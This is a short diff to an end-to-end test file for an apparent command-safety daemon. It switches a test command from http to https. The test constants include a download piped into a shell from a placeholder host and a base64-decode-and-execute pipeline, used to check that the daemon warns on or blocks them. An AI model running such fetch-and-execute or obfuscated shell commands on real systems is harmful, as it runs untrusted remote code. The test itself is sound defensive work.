@@ -37,7 +37,7 @@ pytestmark = pytest.mark.e2e
 # Tier-1 warns on it (a download piped into a shell, p 0.6); a daemon with
 # auto_block and block_threshold 0.5 blocks it. `curl` is a shell function in
 # these tests' ~/.bashrc, so nothing touches the network when it does run.
-WARNED = "curl -fsS http://example.invalid/i.sh | sh"
+WARNED = "curl -fsS https://example.invalid/i.sh | sh"
 BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # a Tier-1 block rule: refused locally too
 AUTO_BLOCK = "[accumulator]\nauto_block = true\nblock_threshold = 0.5\n"
 SLACK_S = 1.0  # generous bound on a fallback's added delay (a shared, loaded machine)
